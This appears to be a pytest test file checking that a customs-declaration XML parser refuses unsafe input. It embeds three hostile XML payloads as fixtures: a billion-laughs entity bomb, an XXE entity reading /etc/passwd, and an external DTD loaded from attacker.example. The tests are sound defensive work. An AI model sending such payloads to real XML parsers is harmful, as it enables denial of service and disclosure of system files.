"""Malicious XML is refused with a clear error, before any expansion or fetch."""

from __future__ import annotations

import pytest

from guanwu.customs import fixtures
from guanwu.customs.messages import (
    MalformedXmlError,
    UnsafeXmlError,
    build_dec_message,
    parse_dec_message,
    parse_xml,
)
from guanwu.customs.messages.receipts import parse_dec_result

pytestmark = pytest.mark.unit

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<DecMessage><DecHead><IEFlag>E</IEFlag><NoteS>&lol3;</NoteS></DecHead></DecMessage>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE DecMessage [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<DecMessage><DecHead><IEFlag>E</IEFlag><NoteS>&xxe;</NoteS></DecHead></DecMessage>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE DecMessage SYSTEM "http://attacker.example/evil.dtd">
<DecMessage><DecHead><IEFlag>E</IEFlag></DecHead></DecMessage>"""


@pytest.mark.parametrize(
    "payload", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD], ids=["laughs", "xxe", "dtd"]
)
def test_doctype_and_entities_are_refused(payload: bytes) -> None:
    with pytest.raises(UnsafeXmlError, match="DOCTYPE/ENTITY declarations are not allowed"):
        parse_dec_message(payload)


def test_a_doctype_in_utf16_is_refused_after_parsing() -> None:
    payload = EXTERNAL_ENTITY.replace(b'<?xml version="1.0"?>', b'<?xml version="1.0" encoding="UTF-16"?>')
    with pytest.raises(UnsafeXmlError, match="DOCTYPE"):
        parse_xml(payload.decode().encode("utf-16"))


def test_oversized_input_is_refused_before_parsing() -> None:
    payload = b"<DEC_DATA>" + b" " * (5 * 1024 * 1024) + b"</DEC_DATA>"
    with pytest.raises(UnsafeXmlError, match="over the limit of 5242880 bytes"):
        parse_dec_result(payload)


def test_the_size_limit_is_configurable() -> None:
    xml = build_dec_message(fixtures.fifty_line_export())
    with pytest.raises(UnsafeXmlError, match="over the limit of 1000 bytes"):
        parse_dec_message(xml, max_bytes=1000)
    assert parse_dec_message(xml, max_bytes=len(xml)).goods


def test_malformed_xml_says_so() -> None:
    with pytest.raises(MalformedXmlError, match="malformed XML"):
        parse_xml(b"<DecMessage><DecHead></DecMessage>")


def test_text_is_not_accepted() -> None:
    with pytest.raises(TypeError, match="bytes"):
        parse_xml("<a/>")  # type: ignore[arg-type]
